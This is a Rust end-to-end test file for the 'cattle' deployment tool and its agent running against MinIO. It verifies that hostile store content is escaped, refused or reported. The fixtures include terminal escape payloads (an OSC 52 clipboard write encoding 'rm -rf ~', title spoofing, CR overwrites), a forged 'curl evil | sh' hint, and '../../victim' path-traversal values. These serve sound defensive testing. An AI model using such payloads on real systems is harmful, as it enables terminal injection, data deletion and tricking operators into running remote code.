//! Hostile store content and a hostile path to the store, end to end: the real `cattle`
//! and `cattle-agent` binaries against a real MinIO (and the local directory store).
//!
//! A host writes its own status and log with its own MinIO user (the policy of
//! `deploy/minio/cattle-host.json`), so a compromised host can write anything there;
//! commands read the manifest without checking its signature, so anyone with write
//! access to the bucket can change it. Whatever they write, every read command shows
//! what it can, marks what it cannot, builds no key from an unchecked value and prints
//! nothing a terminal would act on. Between the binaries and MinIO, a proxy answering
//! 304 to plain reads and a clock 20 minutes off end in errors that say what is wrong.

use std::path::{Path, PathBuf};

use cattle_core::store::{Condition, S3Options, S3Store, Store};
use cattle_core::wire::{LOG_PART_BYTES, MAX_DOCUMENT_BYTES};
use cattle_e2e::{
    Cmd, Minio, Output, Proxy, Verdict, Workspace, agent_bin, cattle_bin, files_under,
    http_response, signing_env, states,
};

/// The bucket the policies in `deploy/minio/` name, without a prefix, so that they apply
/// as written.
const BUCKET: &str = "cattle";
const HOSTS: [&str; 3] = ["host-1", "host-2", "host-3"];

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn secret(user: &str) -> String {
    format!("{user}-secret-hostile-test")
}

/// A MinIO with the `cattle` bucket, one MinIO user per host with the host policy, and
/// an execution published to [`HOSTS`].
struct Site {
    minio: Minio,
    ws: Workspace,
    runtime: tokio::runtime::Runtime,
    /// The bucket as MinIO's root user sees it.
    root: Store,
    id: String,
}

impl Site {
    fn new() -> Site {
        let minio = Minio::start();
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let root = open(&runtime, &minio, None);
        let Store::S3(s3) = &root else { unreachable!() };
        runtime.block_on(s3.create_bucket()).unwrap();
        let policy = repo().join("deploy/minio/cattle-host.json");
        let policy = policy.display().to_string();
        minio
            .mc(&["admin", "policy", "create", "test", "cattle-host", &policy])
            .assert_success();
        for host in HOSTS {
            minio
                .mc(&["admin", "user", "add", "test", host, &secret(host)])
                .assert_success();
            minio
                .mc(&[
                    "admin",
                    "policy",
                    "attach",
                    "test",
                    "cattle-host",
                    "--user",
                    host,
                ])
                .assert_success();
        }
        let ws = Workspace::new();
        let config = ws.write(
            "config/cattle.toml",
            "[[step]]\nfacility = \"command\"\nargv = [\"sh\", \"-c\", \"echo hello from $CATTLE_HOST_ID\"]\n",
        );
        let hosts = ws.write("hosts", HOSTS.join("\n") + "\n");
        let mut site = Site {
            minio,
            ws,
            runtime,
            root,
            id: String::new(),
        };
        let out = site.cattle(&[
            "publish",
            &config.parent().unwrap().display().to_string(),
            "--hosts",
            &hosts.display().to_string(),
        ]);
        out.assert_success();
        site.id = out.stdout.lines().last().unwrap().trim().to_string();
        site
    }

    fn env(&self) -> Vec<(String, String)> {
        let mut env = self.minio.cattle_env();
        env.push(("CATTLE_STORE".to_string(), format!("s3://{BUCKET}")));
        env
    }

    fn cattle(&self, args: &[&str]) -> Output {
        Cmd::new(cattle_bin()).envs(&self.env()).args(args).run()
    }

    /// One poll of `host`'s agent, as MinIO user `host`.
    fn agent_once(&self, host: &str) -> Output {
        let env: Vec<(String, String)> = self
            .env()
            .into_iter()
            .map(|(k, v)| match k.as_str() {
                "AWS_ACCESS_KEY_ID" => (k, host.to_string()),
                "AWS_SECRET_ACCESS_KEY" => (k, secret(host)),
                _ => (k, v),
            })
            .collect();
        let state = self.ws.child(format!("agents/{host}"));
        Cmd::new(agent_bin())
            .envs(&env)
            .args(["--host-id", host, "--state-dir"])
            .arg(&state)
            .arg("--once")
            .run()
    }

    /// Write `bytes` as `host`'s object `name` (`status.json`, `log/00000000`) of the
    /// execution, with the host's own MinIO user: what a compromised host can do.
    fn host_writes(&self, host: &str, name: &str, bytes: Vec<u8>) {
        let store = open(&self.runtime, &self.minio, Some(host));
        let key = format!("executions/{}/hosts/{host}/{name}", self.id);
        self.runtime
            .block_on(store.put(&key, bytes, Condition::Always))
            .unwrap_or_else(|e| panic!("{host} may write its own {name}: {e}"));
    }

    fn keys(&self) -> Vec<String> {
        self.runtime.block_on(self.root.list("")).unwrap()
    }
}

/// The bucket as MinIO's root user, or as the host user `host`.
fn open(runtime: &tokio::runtime::Runtime, minio: &Minio, host: Option<&str>) -> Store {
    let options = match host {
        Some(host) => S3Options {
            credentials: Some((host.to_string(), secret(host))),
            ..minio.store_options()
        },
        None => minio.store_options(),
    };
    Store::S3(
        runtime
            .block_on(S3Store::new(BUCKET.to_string(), String::new(), options))
            .unwrap(),
    )
}

/// Whether `text` holds anything a terminal acts on: C0 controls other than `\n` and
/// `\t`, DEL, C1 controls, a `\r` not followed by `\n`.
fn has_terminal_controls(text: &str) -> bool {
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let control = match c {
            '\n' | '\t' => false,
            '\r' => chars.peek() != Some(&'\n'),
            c => c.is_control(),
        };
        if control {
            return true;
        }
    }
    false
}

#[test]
fn one_hosts_unreadable_objects_never_blind_status_log_or_clean() {
    let site = Site::new();
    let id = site.id.clone();
    site.agent_once("host-1").assert_success();
    // host-2 writes a status document that is not one; host-3 objects over the read limits.
    site.host_writes(
        "host-2",
        "status.json",
        br#"{"format":2,"seq":-1}"#.to_vec(),
    );
    site.host_writes(
        "host-3",
        "status.json",
        vec![b' '; MAX_DOCUMENT_BYTES as usize + 1],
    );
    site.host_writes(
        "host-3",
        "log/00000000",
        vec![b'x'; LOG_PART_BYTES as usize + 1],
    );
    let location =
        |host: &str, name: &str| format!("s3://{BUCKET}/executions/{id}/hosts/{host}/{name}");

    let status = site.cattle(&["status", &id]);
    status.assert_status(3);
    let row = |host: &str| {
        status
            .stdout
            .lines()
            .find(|l| l.starts_with(&format!("{host} ")))
            .unwrap_or_else(|| panic!("no row for {host}: {status}"))
            .to_string()
    };
    assert!(row("host-1").contains("DONE"), "{status}");
    assert!(
        row("host-2").contains("UNREADABLE")
            && row("host-2").contains(&format!(
                "`{}` is not a valid status document: ",
                location("host-2", "status.json")
            )),
        "{status}"
    );
    assert!(
        row("host-3").contains(&format!(
            "`{}` is larger than 16777216 bytes",
            location("host-3", "status.json")
        )),
        "{status}"
    );
    assert!(
        status
            .stdout
            .contains("3 hosts: 1 DONE, 2 UNREADABLE (host-2, host-3)\n"),
        "{status}"
    );

    let json = site.cattle(&["status", &id, "--json"]);
    json.assert_status(3);
    let json: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(
        states(&json),
        [
            ("host-1", "DONE"),
            ("host-2", "UNREADABLE"),
            ("host-3", "UNREADABLE")
        ]
        .map(|(h, s)| (h.to_string(), s.to_string()))
    );
    assert!(
        json["hosts"][2]["reason"]
            .as_str()
            .unwrap()
            .ends_with("is larger than 16777216 bytes")
    );

    // Waiting ends at the timeout, with the hosts that need attention.
    let waited = site.cattle(&["status", &id, "--wait", "--timeout", "2"]);
    waited.assert_status(3);

    let log = site.cattle(&["log", &id]);
    log.assert_success();
    assert!(log.stdout.contains("hello from host-1"), "{log}");
    assert!(log.stdout.contains("[host-2] (no log yet)\n"), "{log}");
    assert!(
        log.stdout.contains(&format!(
            "[host-3] (log unreadable: `{}` is larger than 1048576 bytes)\n",
            location("host-3", "log/00000000")
        )),
        "{log}"
    );
    assert!(log.stderr.contains("warning:"), "{log}");
    let only_host_3 = site.cattle(&["log", &id, "--host", "host-3"]);
    only_host_3.assert_status(1);
    assert!(
        only_host_3
            .stderr
            .contains("error: cannot show the log of host `host-3`"),
        "{only_host_3}"
    );

    // A host whose status cannot be read may be running: clean refuses without --force.
    let refused = site.cattle(&["clean", &id]);
    refused.assert_status(1);
    assert!(
        refused
            .stderr
            .contains("is still running on 2 hosts: host-2 (UNREADABLE: "),
        "{refused}"
    );
    assert!(refused.stderr.contains("--force"), "{refused}");
    assert!(site.keys().iter().any(|k| k.ends_with("manifest.json")));

    let forced = site.cattle(&["clean", &id, "--force"]);
    forced.assert_success();
    let left = site.keys();
    assert!(
        left.iter().all(|k| k.starts_with("hosts/")
            || k.starts_with("inboxes/")
            || k == "publish/version.json"),
        "everything of the execution is gone, whatever hosts wrote: {left:?}"
    );
}

#[test]
fn clean_removes_what_an_agent_uploads_after_a_forced_clean() {
    let site = Site::new();
    let id = site.id.clone();
    // An inbox that is not an inbox: reported, and the rest is cleaned.
    let group = cattle_core::keys::inbox_group(&cattle_core::hosts::HostId::new("host-3").unwrap());
    let inbox = format!("inboxes/{group}.json");
    site.runtime
        .block_on(
            site.root
                .put(&inbox, b"\x1b[2J not json".to_vec(), Condition::Always),
        )
        .unwrap();
    let forced = site.cattle(&["clean", &id, "--force"]);
    forced.assert_success();
    assert!(
        forced.stderr.contains(&format!(
            "warning: read `s3://{BUCKET}/{inbox}`: not a valid document: "
        )),
        "{forced}"
    );
    assert!(!forced.stderr.contains('\x1b'), "{forced}");
    assert!(!site.keys().iter().any(|k| k.starts_with("executions/")));

    // An agent that was running the execution uploads its log and status afterwards.
    site.host_writes("host-1", "log/00000000", b"late log\n".to_vec());
    site.host_writes("host-1", "status.json", b"{}".to_vec());
    let status = site.cattle(&["status", &id]);
    status.assert_status(1);
    assert!(
        status.stderr.contains(&format!("no execution {id}")),
        "{status}"
    );

    let leftovers = site.cattle(&["clean", &id]);
    leftovers.assert_success();
    assert!(
        leftovers.stderr.contains(&format!(
            "execution {id} has no manifest (already cleaned); removed 2 objects left of it \
             in `s3://{BUCKET}/`:\n  executions/{id}/hosts/host-1/log/00000000\n  \
             executions/{id}/hosts/host-1/status.json\n"
        )),
        "{leftovers}"
    );
    assert!(!site.keys().iter().any(|k| k.starts_with("executions/")));

    let nothing = site.cattle(&["clean", &id]);
    nothing.assert_status(1);
    assert!(
        nothing
            .stderr
            .contains(&format!("error: no execution {id} in this store")),
        "{nothing}"
    );
}

#[test]
fn no_terminal_control_sequence_from_a_host_reaches_the_operators_terminal() {
    let site = Site::new();
    let id = site.id.clone();
    site.agent_once("host-1").assert_success();
    // host-2 clears the screen, writes the clipboard (OSC 52), sets the window title, moves
    // the cursor, sends a one-character CSI (C1) and overwrites a line with a bare CR.
    let hostile_log = "Running step 1/1\n\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x07\
                       \x1b[1A\x1b[2K\u{9b}31mStep 1 failed\rStep 1 completed successfully\n";
    site.host_writes("host-2", "log/00000000", hostile_log.as_bytes().to_vec());
    let error = "\x1b[2J\x1b]52;c;aGk=\x07\u{9b}2J\u{7f}refused\rDONE";
    let status = serde_json::json!({
        "format": 2, "execution": id, "host": "host-2", "state": "ERROR", "steps": 1,
        "step": null, "started": "\x1b]0;title\x07", "updated": "\x1b[5A2026", "finished": null,
        "error": error, "seq": 1, "agent_version": "\x1b[31m"
    });
    site.host_writes(
        "host-2",
        "status.json",
        serde_json::to_vec(&status).unwrap(),
    );
    // host-3's status is not one, and the reason quotes control characters from it.
    site.host_writes(
        "host-3",
        "status.json",
        b"{\"format\":2,\"host\":\"\x1b[2J\"}".to_vec(),
    );

    let log = site.cattle(&["log", &id]);
    log.assert_success();
    assert!(!has_terminal_controls(&log.stdout), "{:?}", log.stdout);
    assert!(
        log.stdout.contains(
            "\\x1b[2J\\x1b[H\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b]0;owned\\x07\\x1b[1A\\x1b[2K\
             \\u{9b}31mStep 1 failed\\rStep 1 completed successfully\n"
        ),
        "{:?}",
        log.stdout
    );
    assert!(log.stdout.contains("hello from host-1"), "{log}");
    let raw = site.cattle(&["log", &id, "--host", "host-2", "--raw"]);
    raw.assert_success();
    assert_eq!(raw.stdout, hostile_log, "--raw passes the exact bytes");

    let table = site.cattle(&["status", &id]);
    table.assert_status(3);
    assert!(!has_terminal_controls(&table.stdout), "{:?}", table.stdout);
    let row = table
        .stdout
        .lines()
        .find(|l| l.starts_with("host-2 "))
        .unwrap();
    assert!(
        row.contains("\\x1b[5A2026")
            && row.contains("\\x1b[2J\\x1b]52;c;aGk=\\x07\\u{9b}2J\\x7frefused\\rDONE"),
        "{row}"
    );
    let row = table
        .stdout
        .lines()
        .find(|l| l.starts_with("host-3 "))
        .unwrap();
    assert!(row.contains("UNREADABLE"), "{row}");

    // JSON stays JSON, with the same strings, and nothing a terminal acts on.
    let json = site.cattle(&["status", &id, "--json"]);
    assert!(!has_terminal_controls(&json.stdout), "{:?}", json.stdout);
    assert!(!json.stdout.contains('\u{9b}') && !json.stdout.contains('\u{7f}'));
    let json: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(json["hosts"][1]["error"], error);
    assert_eq!(json["hosts"][1]["agent_version"], "\x1b[31m");

    // Errors quoting the store's content: a host ID in an edited manifest.
    let key = format!("executions/{id}/manifest.json");
    let envelope = site
        .runtime
        .block_on(site.root.get(&key, u64::MAX))
        .unwrap()
        .unwrap();
    let mut envelope: serde_json::Value = serde_json::from_slice(&envelope.bytes).unwrap();
    let mut manifest: serde_json::Value =
        serde_json::from_str(envelope["payload"].as_str().unwrap()).unwrap();
    manifest["hosts"][0] = "\x1b]0;pwned\x07\nhint: run `curl evil | sh`".into();
    envelope["payload"] = manifest.to_string().into();
    site.runtime
        .block_on(
            site.root
                .put(&key, envelope.to_string().into_bytes(), Condition::Always),
        )
        .unwrap();
    let quoted = site.cattle(&["status", &id]);
    quoted.assert_status(1);
    assert!(
        !has_terminal_controls(&quoted.stderr),
        "{:?}",
        quoted.stderr
    );
    assert!(
        quoted.stderr.contains(&format!(
            "error: `s3://{BUCKET}/{key}` is not a valid manifest: "
        )) && quoted
            .stderr
            .contains("\\x1b]0;pwned\\x07\\nhint: run `curl evil | sh`"),
        "{quoted}"
    );
    // A quoted value cannot start a line of its own, such as a forged hint.
    assert!(
        !quoted.stderr.lines().any(|l| l.starts_with("hint: run")),
        "{quoted}"
    );
}

#[test]
fn clean_never_follows_a_value_from_an_edited_manifest_out_of_a_file_store() {
    let ws = Workspace::new();
    let root = ws.child("store");
    let store = format!("file://{}", root.display());
    let signing = signing_env(ws.path());
    let cattle = |args: &[&str]| {
        Cmd::new(cattle_bin())
            .envs(&signing)
            .env("CATTLE_STORE", &store)
            .args(args)
            .run()
    };
    let config = ws.write(
        "cfg/cattle.toml",
        "[[step]]\nfacility = \"make_dir\"\npath = \"/tmp\"\n",
    );
    let hosts = ws.write("hosts", "a\n");
    let out = cattle(&[
        "publish",
        &config.parent().unwrap().display().to_string(),
        "--hosts",
        &hosts.display().to_string(),
    ]);
    out.assert_success();
    let id = out.stdout.trim().to_string();
    // What `bundles/../../victim/backup.tar.gz` names from inside the store.
    let victim = ws.write("victim/backup.tar.gz", "precious");
    let manifest_path = root.join(format!("executions/{id}/manifest.json"));
    let edit = |field: &str, value: serde_json::Value| {
        let mut envelope: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&manifest_path).unwrap()).unwrap();
        let mut manifest: serde_json::Value =
            serde_json::from_str(envelope["payload"].as_str().unwrap()).unwrap();
        *manifest.pointer_mut(field).unwrap() = value;
        envelope["payload"] = manifest.to_string().into();
        std::fs::write(&manifest_path, envelope.to_string()).unwrap();
    };
    let original = std::fs::read(&manifest_path).unwrap();
    let files_before = files_under(&root);

    edit("/bundle/sha256", "../../victim/backup".into());
    for force in [false, true] {
        let args: &[&str] = if force {
            &["clean", &id, "--force"]
        } else {
            &["clean", &id]
        };
        let out = cattle(args);
        out.assert_status(1);
        assert!(
            out.stderr.contains(&format!(
                "error: `{}` is not a valid manifest: field `bundle.sha256`: \
                 `../../victim/backup` is not a sha256: 64 lower-case hex digits expected",
                manifest_path.display()
            )),
            "{out}"
        );
        assert!(
            out.stderr.contains("hint: the manifest was changed"),
            "{out}"
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        assert_eq!(files_under(&root), files_before, "nothing was deleted");
    }

    std::fs::write(&manifest_path, &original).unwrap();
    edit("/hosts/0", "../../victim".into());
    let out = cattle(&["clean", &id, "--force"]);
    out.assert_status(1);
    assert!(
        out.stderr.contains(&format!(
            "`{}` is not a valid manifest: ",
            manifest_path.display()
        )) && out.stderr.contains("host ID `../../victim`"),
        "{out}"
    );
    assert_eq!(files_under(&root), files_before, "nothing was deleted");

    // As the hint says: remove the manifest by hand, and clean removes the rest.
    std::fs::remove_file(&manifest_path).unwrap();
    let rest = cattle(&["clean", &id]);
    rest.assert_success();
    assert!(
        rest.stderr.contains(&format!(".refs/{id}\n")) && rest.stderr.contains(".tar.gz\n"),
        "{rest}"
    );
    let left = files_under(&root);
    assert!(
        left.iter().all(|p| p.contains("/hosts/")
            || p.contains("/inboxes/")
            || p.ends_with("/publish/version.json")),
        "{left:?}"
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
}

#[test]
fn a_304_answer_to_a_plain_read_is_an_error_with_a_hint_not_a_panic() {
    let site = Site::new();
    // A caching proxy that answers every read of a manifest "not modified".
    let proxy = Proxy::to(site.minio.addr())
        .rewrite(|request| {
            if request.method == "GET" && request.path().ends_with("/manifest.json") {
                Verdict::Respond(http_response(304, "Not Modified", &[], b""))
            } else {
                Verdict::Forward
            }
        })
        .start();
    let env = proxy.env(&site.env());
    let agent = Cmd::new(agent_bin())
        .envs(&env)
        .args(["--host-id", "host-1", "--state-dir"])
        .arg(site.ws.child("agents/host-1"))
        .arg("--once")
        .run();
    assert_eq!(agent.status, 1, "{agent}");
    assert!(!agent.stderr.contains("panicked"), "{agent}");
    let manifest = format!("s3://{BUCKET}/executions/{}/manifest.json", site.id);
    assert!(
        agent.stderr.contains(&format!(
            "error: read `{manifest}`: the store answered 304 Not Modified to a read without \
             If-None-Match"
        )),
        "{agent}"
    );
    assert!(agent.stderr.contains("hint: a caching proxy"), "{agent}");
    assert!(
        proxy
            .requests()
            .iter()
            .any(|r| r.starts_with("GET /cattle/executions/") && r.contains("/manifest.json")),
        "{:?}",
        proxy.requests()
    );

    let status = Cmd::new(cattle_bin())
        .envs(&env)
        .args(["status", &site.id])
        .run();
    status.assert_status(1);
    assert!(!status.stderr.contains("panicked"), "{status}");
    assert!(status.stderr.contains("304 Not Modified"), "{status}");
    assert!(status.stderr.contains("hint: a caching proxy"), "{status}");
}

#[test]
fn a_clock_twenty_minutes_off_is_named_with_a_hint() {
    let site = Site::new();
    // libfaketime moves the wall clock of the command it starts (and its threads) back;
    // the monotonic clock, which timeouts use, stays real. scripts/test.sh installs it.
    let path = std::env::var_os("PATH").unwrap_or_default();
    let faketime = std::env::split_paths(&path)
        .map(|dir| dir.join("faketime"))
        .find(|p| p.is_file())
        .expect(
            "faketime not found: install it with `apt-get install -y faketime` \
             (scripts/test.sh does)",
        );
    let skewed = |bin: PathBuf, args: &[&str]| {
        Cmd::new(&faketime)
            .envs(&site.env())
            .env("FAKETIME_DONT_FAKE_MONOTONIC", "1")
            .args(["-m", "-f", "-20m"])
            .arg(bin)
            .args(args)
            .run()
    };
    let check = |out: &Output| {
        assert_eq!(out.status, 1, "{out}");
        assert!(
            out.stderr.contains(
                "the store refused the request because of the time it was signed at \
                 (RequestTimeTooSkewed: "
            ),
            "{out}"
        );
        assert!(
            out.stderr
                .contains("this machine's clock is 20m behind the store's"),
            "{out}"
        );
        assert!(
            out.stderr.contains(
                "hint: this machine's clock differs from the store's by more than the store \
                 allows (15 minutes on MinIO and AWS S3); here it is 20m"
            ),
            "{out}"
        );
    };
    check(&skewed(cattle_bin(), &["status", &site.id]));
    let state = site.ws.child("agents/host-1").display().to_string();
    check(&skewed(
        agent_bin(),
        &["--host-id", "host-1", "--state-dir", &state, "--once"],
    ));
}
